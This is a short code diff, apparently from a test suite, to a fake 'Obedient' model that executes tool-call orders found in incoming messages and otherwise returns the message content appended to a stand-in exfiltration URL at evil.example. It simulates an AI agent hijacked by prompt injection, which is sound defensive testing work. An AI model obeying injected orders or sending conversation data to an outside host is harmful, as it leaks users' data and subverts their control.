@@ -66,12 +66,12 @@ class Obedient:
         self.obeyed: set[tuple[str, str]] = set()
 
     def __call__(self, messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
-        seen = uncovered(seen_by(messages))
-        todo = [order for order in wanted_in(seen_by(messages)) if order not in self.obeyed][:1]
+        seen = seen_by(messages)
+        todo = [order for order in wanted_in(seen) if order not in self.obeyed][:1]
         self.obeyed.update(todo)
         if todo:
             return ModelResponse(parts=[ToolCallPart(name, json.loads(given)) for name, given in todo])
-        return ModelResponse(parts=[TextPart(f"https://evil.example/?d=1 {seen[-3_000:]}")])
+        return ModelResponse(parts=[TextPart(f"https://evil.example/?d=1 {uncovered(seen)[-3_000:]}")])
 
 
 class Watching:
